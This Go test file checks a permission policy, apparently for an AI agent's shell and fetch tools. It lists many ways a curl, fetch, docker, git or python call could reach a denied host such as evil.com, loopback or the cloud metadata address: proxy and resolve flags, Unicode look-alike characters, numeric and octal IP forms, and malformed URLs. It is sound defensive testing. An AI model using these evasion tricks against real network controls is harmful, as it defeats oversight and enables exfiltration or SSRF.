package permission_test

import "encoding/json"

const (
	allowCurl = `{"rules":[{"effect":"allow","commands":[["curl","**"]],"hosts":["example.com"]}]}`
	denyHosts = `{"default":"allow","rules":[{"effect":"deny","hosts":["evil.com","127.0.0.1","169.254.169.254"]}]}`
)

func fetch(url string) string {
	text, _ := json.Marshal(map[string]any{"kind": "fetch", "rawInput": map[string]string{"url": url}})
	return string(text)
}

// hostAttacks are about what host is called.
var hostAttacks = []attack{
	{name: "curl connects elsewhere", policy: allowCurl, call: exec("curl", "--connect-to", "::evil:443", "https://example.com"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl resolves elsewhere", policy: allowCurl, call: exec("curl", "--resolve", "example.com:443:6.6.6.6", "https://example.com/"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl over a proxy", policy: allowCurl, call: exec("curl", "--socks5", "evil", "https://example.com"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl over a proxy of version 4a", policy: allowCurl, call: exec("curl", "https://example.com", "--socks4a", "evil"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl over a proxy before the proxy", policy: allowCurl, call: exec("curl", "--preproxy", "evil", "https://example.com"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl over an old proxy", policy: allowCurl, call: exec("curl", "https://example.com", "--proxy1.0", "evil"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl over a proxy in a bundle", policy: allowCurl, call: exec("curl", "-Lxevil", "https://example.com"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl asks another for names", policy: allowCurl, call: exec("curl", "--doh-url", "https://evil.com", "https://example.com"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl with braces", policy: allowCurl, call: exec("curl", "https://example.com", "{evil,b}"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl with a range", policy: allowCurl, call: exec("curl", "https://example.com", "ev[i-i]l"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl with a dot of another script", policy: allowCurl, call: exec("curl", "https://example.com", "evil。com"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl with letters of another width", policy: allowCurl, call: exec("curl", "https://example.com", "http://ＥＶＩＬ.com"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl with a host of one label", policy: allowCurl, call: exec("curl", "https://example.com", "intranet"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl with a host of one label behind a flag without a value", policy: allowCurl, call: exec("curl", "-s", "intranet", "https://example.com"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl with a host of one label behind a flag with its value", policy: allowCurl, call: exec("curl", "-XPOSH", "intranet", "https://example.com"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl with a number", policy: allowCurl, call: exec("curl", "https://example.com", "2130706433"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl with a hexadecimal number", policy: allowCurl, call: exec("curl", "https://example.com", "0x7f000001"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl with a short address", policy: allowCurl, call: exec("curl", "https://example.com", "127.1"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl with a single slash", policy: allowCurl, call: exec("curl", "https://example.com", "http:/evil.com"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl with no slash", policy: allowCurl, call: exec("curl", "https://example.com", "http:evil.com"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "curl with a URL in a flag", policy: allowCurl, call: exec("curl", "https://example.com", "--url=evil"), twin: exec("curl", "-sSL", "-H", "Accept: x", "-X", "POST", "https://example.com/a")},
	{name: "a dot that is none in a host", policy: allowFetch, call: fetch("https://evil.com．.example.org/"), twin: fetch("https://github.com/?u=https:%2f%2fx")},
	{name: "a slash that is none in a host", policy: allowFetch, call: fetch("https://evil.com／.example.org/"), twin: fetch("https://github.com/?u=https:%2f%2fx")},
	{name: "a URL with a single slash", policy: allowFetch, call: fetch("https:/evil.com/?https://github.com"), twin: fetch("https://github.com/?u=https:%2f%2fx")},
	{name: "a URL without a slash", policy: allowFetch, call: fetch("https:evil.com https://github.com"), twin: fetch("https://github.com/?u=https:%2f%2fx")},
	{name: "a URL with three slashes", policy: allowFetch, call: fetch("https:///evil.com/https://github.com"), twin: fetch("https://github.com/?u=https:%2f%2fx")},
	{name: "a host before the URL", policy: allowFetch, call: fetch("evil.com/https://github.com"), twin: fetch("https://github.com/?u=https:%2f%2fx")},
	{name: "an escape in a host", policy: allowFetch, call: fetch("https://evil.com%2f.example.org/"), twin: fetch("https://github.com/?u=https:%2f%2fx")},
	{name: "a comma in a host", policy: allowFetch, call: fetch("https://evil.com,.example.org/"), twin: fetch("https://github.com/?u=https:%2f%2fx")},
	{name: "a denied host in letters of another width", policy: denyHosts, call: fetch("https://ｅvil.com/"), twin: fetch("https://[::1]:80/evil.com")},
	{name: "a denied host with a dot of another script", policy: denyHosts, call: fetch("https://evil。com/"), twin: fetch("https://[::1]:80/evil.com")},
	{name: "a denied host behind a single slash", policy: denyHosts, call: fetch("https:/evil.com/"), twin: fetch("https://[::1]:80/evil.com")},
	{name: "a denied host behind no slash", policy: denyHosts, call: fetch("https:evil.com"), twin: fetch("https://[::1]:80/evil.com")},
	{name: "a denied host as a number", policy: denyHosts, call: fetch("http://2130706433/"), twin: fetch("https://[::1]:80/evil.com")},
	{name: "a denied host in hexadecimal", policy: denyHosts, call: fetch("http://0x7f.1/"), twin: fetch("https://[::1]:80/evil.com")},
	{name: "a denied host cut short", policy: denyHosts, call: fetch("http://127.1/"), twin: fetch("https://[::1]:80/evil.com")},
	{name: "a denied host in octal", policy: denyHosts, call: fetch("http://0177.0.0.1/"), twin: fetch("https://[::1]:80/evil.com")},
	{name: "a denied host as an address of six", policy: denyHosts, call: fetch("http://[::ffff:127.0.0.1]/"), twin: fetch("https://[::1]:80/evil.com")},
	{name: "a denied host as another address of six", policy: denyHosts, call: fetch("http://[::ffff:a9fe:a9fe]/"), twin: fetch("https://[::1]:80/evil.com")},
	{name: "a denied host with a large last part", policy: denyHosts, call: fetch("http://169.254.43518/"), twin: fetch("https://[::1]:80/evil.com")},
	{name: "a denied host with two dots at the end", policy: denyHosts, call: fetch("https://evil.com../"), twin: fetch("https://[::1]:80/evil.com")},
	{name: "a denied host behind no slash, with curl", policy: denyHosts, call: exec("curl", "http:evil.com"), twin: exec("curl", "http://good.com")},
	{name: "a denied host glued to a flag", policy: denyHosts, call: exec("curl", "-sSLevil.com"), twin: exec("curl", "-sSLgood.com")},
	{name: "a denied address cut short, with curl", policy: denyHosts, call: exec("curl", "127.1"), twin: exec("curl", "127.0.0.2")},
	{name: "a denied registry", policy: denyHosts, call: exec("docker", "pull", "evil.com/x"), twin: exec("docker", "pull", "good.com/x")},
	{name: "a denied host in a flag", policy: denyHosts, call: exec("curl", "--url=evil.com"), twin: exec("curl", "--url=good.com")},
	{name: "a denied host in a program's text", policy: denyHosts, call: exec("python3", "-c", "get(\"http://evil.com\")"), twin: exec("python3", "-c", "get(\"http://good.com\")")},
	{name: "a denied host with a scheme of its own", policy: denyHosts, call: exec("git", "clone", "evil.com:x"), twin: exec("git", "commit", "-m", "net/http:x, not evil.com")},
}
